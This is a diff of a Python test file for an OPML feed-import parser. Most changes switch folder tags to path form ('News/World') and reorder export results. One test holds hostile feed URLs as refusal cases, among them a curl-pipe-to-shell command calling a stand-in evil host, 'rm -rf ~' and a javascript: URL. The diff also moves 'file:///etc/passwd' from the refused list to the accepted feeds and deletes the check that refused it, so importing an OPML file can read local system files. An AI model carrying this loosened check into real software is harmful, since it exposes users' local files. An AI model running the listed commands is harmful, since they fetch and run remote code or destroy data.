@@ -32,9 +32,10 @@ def test_folders_and_categories_become_tags() -> None:
     result = parse_opml(WELL_FORMED)
     assert result.refused == []
     assert result.feeds == [
-        OpmlFeed("https://example.org/world.xml", "The Ledger", ("News", "World")),
+        # A nested folder is a path tag; its parent folder a tag too (12.9).
+        OpmlFeed("https://example.org/world.xml", "The Ledger", ("News", "News/World")),
         OpmlFeed("http://daily.example.com/rss", "Daily", ("News",)),
-        OpmlFeed("https://lab.example.com/atom", "Lab", ("Science", "Space", "Weekly")),
+        OpmlFeed("https://lab.example.com/atom", "Lab", ("Science", "Science/Space", "Weekly")),
         OpmlFeed("https://loose.example.com/feed", "Loose", ()),
     ]
 
@@ -59,20 +60,22 @@ def test_dangerous_and_non_http_urls_refused_and_reported() -> None:
       <outline text="empty" xmlUrl=""/>
     </body></opml>"""
     result = parse_opml(data)
-    assert [feed.url for feed in result.feeds] == ["https://ok.example.com/feed"]
+    # file: is taken as 'add' takes it; 'broadsheet import' then reads it as a feed (12.11).
+    assert [feed.url for feed in result.feeds] == [
+        "https://ok.example.com/feed",
+        "file:///etc/passwd",
+    ]
     refused = dict(result.refused)
     assert list(refused) == [
         "exec:curl https://evil.example.com | sh",
         "filter:./munge.sh:https://x.example.com/",
         "|rm -rf ~",
-        "file:///etc/passwd",
         "feeds/local.xml",
         "javascript:alert(1)",
         "",
     ]
     assert "command" in refused["exec:curl https://evil.example.com | sh"]
     assert "command" in refused["|rm -rf ~"]
-    assert "file:" in refused["file:///etc/passwd"]
     assert all("\n" not in reason for reason in refused.values())
 
 
@@ -150,7 +153,7 @@ def nested(depth: int) -> bytes:
 
 def test_deeply_nested_folders_all_become_tags() -> None:
     (feed,) = parse_opml(nested(200)).feeds
-    assert feed.tags == tuple(f"d{level}" for level in range(200))
+    assert feed.tags == tuple("/".join(f"d{n}" for n in range(level + 1)) for level in range(200))
 
 
 def test_hostile_nesting_does_not_crash() -> None:
@@ -184,8 +187,8 @@ def test_export_escapes_and_round_trips() -> None:
             'Quotes "and" <angles> & ampersands',
             ("News", "Tech & Co"),
         ),
-        ("https://c.example.com/feed", "C", ("Tech & Co", "AI/ML, etc")),
         ("https://b.example.com/feed", "B", ()),
+        ("https://c.example.com/feed", "C", ("Tech & Co", "AI/ML, etc")),
     ]
 
 
